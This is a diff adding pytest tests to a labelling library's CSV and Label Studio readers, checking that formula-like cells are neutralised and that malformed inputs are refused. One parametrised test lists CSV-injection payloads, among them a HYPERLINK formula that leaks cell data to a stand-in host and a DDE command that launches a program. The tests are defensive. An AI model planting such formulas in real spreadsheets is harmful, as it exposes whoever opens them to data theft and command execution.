@@ -8,6 +8,8 @@ import numpy as np
 import pytest
 
 from labelnext.io.sheets import (
+    neutralize_cell,
+    restore_cell,
     labelstudio_config,
     read_label_csv,
     read_labelstudio_export,
@@ -223,3 +225,39 @@ def test_bad_labelstudio_exports_are_refused_with_one_line(tmp_path, tasks, matc
     path = _export(tmp_path, tasks)
     with pytest.raises(ValueError, match=match):
         read_labelstudio_export(path, CLASSES, n_items=100)
+
+
+# --------------------------------------------------------------------------- hostile cells
+@pytest.mark.parametrize("payload", ['=HYPERLINK("http://evil.example/?leak="&A1,"click me")', "+1+cmd|' /C calc'!A0",
+                                     "-2+3", "@SUM(A1:A9)"])
+def test_formula_cells_are_written_as_text_and_read_back_unchanged(tmp_path, payload):
+    path = tmp_path / "s.csv"
+    names = ["cat", payload]
+    write_label_csv(path, [{"index": 3, "label": payload, "predicted_class": payload, "image": payload}])
+    with open(path, newline="", encoding="utf-8") as f:
+        rows = list(csv.reader(f))
+    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in rows[1])
+    assert rows[1][1] == "'" + payload
+    items, classes = read_label_csv(path, names)
+    assert items.tolist() == [3] and classes.tolist() == [1]
+
+
+def test_numbers_and_plain_text_are_not_quoted():
+    assert neutralize_cell("\t=1") == "'\t=1" and neutralize_cell("\r=1") == "'\r=1"
+    assert neutralize_cell("-1.5") == "-1.5" and neutralize_cell("cat") == "cat" and neutralize_cell(None) == ""
+    assert restore_cell("'cat") == "'cat" and restore_cell(neutralize_cell("=x")) == "=x"
+
+
+@pytest.mark.parametrize("index", ["²", "٣", "１"])
+def test_non_ascii_digits_are_not_indices(tmp_path, index):
+    path = tmp_path / "s.csv"
+    path.write_text(f"index,label\n{index},cat\n", encoding="utf-8")
+    with pytest.raises(ValueError, match=r"s\.csv.* line 2: index .* is not an integer"):
+        read_label_csv(path, ["cat", "dog"])
+
+
+def test_deeply_nested_labelstudio_export_is_one_line(tmp_path):
+    path = tmp_path / "deep.json"
+    path.write_text("[" * 100_000 + "]" * 100_000, encoding="utf-8")
+    with pytest.raises(ValueError, match=r"deep\.json' is nested too deeply"):
+        read_labelstudio_export(path, ["cat", "dog"])
